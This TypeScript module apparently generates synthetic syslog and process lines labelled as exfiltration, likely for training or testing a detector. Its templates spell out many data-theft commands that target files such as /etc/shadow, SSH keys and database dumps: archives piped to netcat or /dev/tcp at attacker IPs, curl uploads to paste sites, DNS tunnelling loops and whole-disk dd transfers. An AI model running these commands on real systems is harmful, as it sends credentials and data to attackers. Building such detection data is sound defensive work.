/**
 * Exfiltration seen on hosts: archives piped to netcat, uploads to paste/transfer sites, rclone,
 * DNS tunnelling loops.
 *
 * @module
 */
import type { Ctx, Template } from "../types.ts";
import { syslog } from "../format.ts";
import { anyHost, evilIp, evilPort, victimUser, type Who } from "./host_common.ts";
import { execLine, PROC_FMTS } from "./host_exec.ts";

const LOOT = [
  "/var/www",
  "/var/www/html",
  "/home",
  "/etc",
  "/root",
  "/var/lib/mysql",
  "/opt/app/data",
  "/srv/share",
  "/home/*/Documents",
  "/var/backups",
  "/etc/passwd",
  "/etc/shadow",
  "/root/.ssh",
  "/var/www/html/wp-config.php",
  "/var/lib/postgresql",
];
const DUMPS = [
  "/tmp/db.sql",
  "/tmp/.d.tgz",
  "/dev/shm/out.tar.gz",
  "/tmp/dump.sql.gz",
  "/var/tmp/x.zip",
  "/tmp/loot.tar",
  "backup.tgz",
];
const EXT_DOMAINS = [
  "transfer.sh",
  "file.io",
  "0x0.st",
  "temp.sh",
  "bashupload.com",
  "paste.c-net.org",
  "oshi.at",
  "catbox.moe",
];

function tunnelDomain(ctx: Ctx): string {
  const { rng } = ctx;
  return rng.pick([
    `${rng.alnum(6).toLowerCase()}.${
      rng.pick(["xyz", "top", "club", "online", "site", "info", "net", "com"])
    }`,
    `t.${rng.pick(["evil", "c2", "data", "cdn-sync", "dnslog", "oast"])}${rng.int(1, 99)}.${
      rng.pick(["com", "net", "xyz"])
    }`,
    `${rng.alnum(8).toLowerCase()}.burpcollaborator.net`,
    `${rng.alnum(10).toLowerCase()}.oast.fun`,
    `${rng.alnum(6).toLowerCase()}.dnslog.cn`,
  ]);
}

function exfilCmd(ctx: Ctx, w: Who): string {
  const { rng } = ctx;
  const ip = evilIp(ctx),
    port = evilPort(ctx),
    src = rng.pick(LOOT),
    f = rng.pick(DUMPS),
    dom = tunnelDomain(ctx);
  const site = rng.pick(EXT_DOMAINS);
  const db = rng.pick([
    "wordpress",
    "shop",
    "app",
    "customers",
    "nextcloud",
    "--all-databases",
    "users",
  ]);
  return rng.weighted<string>([
    [`tar czf - ${src} | nc ${ip} ${port}`, 5],
    [`tar cf - ${src} | nc -q 0 ${ip} ${port}`, 2],
    [
      `tar zcf - ${src} | ssh -p ${rng.int(2000, 60000)} ${
        rng.pick(["root", "kali", "u"])
      }@${ip} "cat > /tmp/${rng.alnum(5)}.tgz"`,
      2,
    ],
    [`nc ${ip} ${port} < ${f}`, 3],
    [`cat ${f} > /dev/tcp/${ip}/${port}`, 2],
    [`curl -T ${f} https://${site}/${f.split("/").pop()}`, 3],
    [`curl --upload-file ${f} https://transfer.sh/${f.split("/").pop()}`, 3],
    [
      `curl -F "file=@${rng.pick(["/etc/passwd", "/etc/shadow", f])}" http://${ip}:${
        rng.pick([80, 8000, 8080, 443])
      }/upload`,
      4,
    ],
    [
      `curl -X POST --data-binary @${f} http://${ip}/${
        rng.pick(["up", "u.php", "collect", "api/upload"])
      }`,
      2,
    ],
    [`wget --post-file=${rng.pick(["/etc/passwd", f])} http://${ip}/`, 2],
    [
      `mysqldump -u root -p${
        rng.alnum(10)
      } ${db} | gzip | curl -X POST --data-binary @- http://${ip}/${rng.pick(["d", "upload"])}`,
      3,
    ],
    [`mysqldump ${db} > ${f} && scp ${f} ${rng.pick(["root", "kali", "x"])}@${ip}:/tmp/`, 2],
    [`pg_dumpall -U postgres | nc ${ip} ${port}`, 1],
    [`scp -r ${src} ${rng.pick(["root", "kali", "user", "x"])}@${ip}:/tmp/${rng.alnum(4)}/`, 3],
    [`scp -P ${rng.int(2000, 60000)} ${f} ${rng.pick(["u", "root"])}@${ip}:~`, 2],
    [`rsync -avz ${src} ${rng.pick(["root", "kali", "data"])}@${ip}:/data/${rng.alnum(6)}/`, 2],
    [`rclone copy ${src} mega:/${rng.alnum(6)}`, 3],
    [
      `rclone copy ${src} ${rng.pick(["mega", "dropbox", "gdrive", "pcloud", "s3x"])}:${
        rng.alnum(8)
      } --transfers 16 -q`,
      2,
    ],
    [`python3 dnsteal.py ${ip} -z -s 4 -b 57 -f`, 1],
    [`for i in $(xxd -p -c 30 ${rng.pick(["/etc/passwd", f])}); do dig $i.${dom}; done`, 3],
    [`for b in $(base64 -w 60 ${f}); do nslookup $b.${dom} ${ip}; done`, 2],
    [
      `split -b 60 ${f} /tmp/.c/ && for p in /tmp/.c/*; do dig +short $(base64 -w0 $p | tr '+/=' '-_.').${dom}; done`,
      1,
    ],
    [`xxd -p ${f} | while read l; do host $l.${dom}; done`, 2],
    [`cat ${f} | base64 -w 50 | while read l; do nslookup $l.${dom}; done`, 2],
    [`openssl s_client -quiet -connect ${ip}:${rng.pick([443, 8443, port])} < ${f}`, 2],
    [`tar czf - ${src} | openssl enc -aes-256-cbc -k ${rng.alnum(10)} | nc ${ip} ${port}`, 1],
    [
      `zip -r -P ${rng.alnum(8)} /tmp/${
        rng.alnum(5)
      }.zip ${src} && curl -T /tmp/*.zip ftp://${ip}/ --user anonymous:`,
      1,
    ],
    [`ftp -n ${ip} <<< $'user anonymous x\\nput ${f}\\nbye'`, 1],
    [`${w.uid === 0 ? "" : "sudo "}dd if=/dev/sda bs=4M | gzip | nc ${ip} ${port}`, 1],
    [`smbclient //${ip}/share -N -c 'put ${f}'`, 1],
    [`aws s3 cp ${f} s3://${rng.alnum(10).toLowerCase()}-drop/ --no-sign-request`, 1],
  ]);
}

/** Exfiltration templates. */
export const EXFIL_TEMPLATES: Template[] = [
  {
    family: "shell_cmd",
    label: "exfiltration",
    weight: 10,
    make: (c) => {
      const w = victimUser(c);
      return execLine(c, {
        cmd: exfilCmd(c, w),
        who: w,
        peer: c.rng.chance(0.3) ? evilIp(c) : undefined,
      });
    },
  },
  {
    family: "shell_cmd",
    label: "exfiltration",
    weight: 2,
    make: (c) => {
      const w = victimUser(c);
      return execLine(c, { cmd: exfilCmd(c, w), who: w }, PROC_FMTS);
    },
  },
  {
    family: "cron",
    label: "exfiltration",
    weight: 1,
    make: (c) => {
      const ip = evilIp(c);
      const cmd = c.rng.pick([
        `tar czf - /var/www | nc ${ip} ${evilPort(c)}`,
        `curl -F "f=@/etc/shadow" http://${ip}/u`,
        `rsync -az /home/ sync@${ip}:/dump/ >/dev/null 2>&1`,
        `rclone copy /srv/share mega:/${c.rng.alnum(6)} -q`,
      ]);
      return syslog(
        c,
        anyHost(c),
        "CRON",
        c.rng.int(300, 99999),
        `(${c.rng.pick(["root", "www-data", "nobody"])}) CMD (${cmd})`,
        "cron",
      );
    },
  },
];
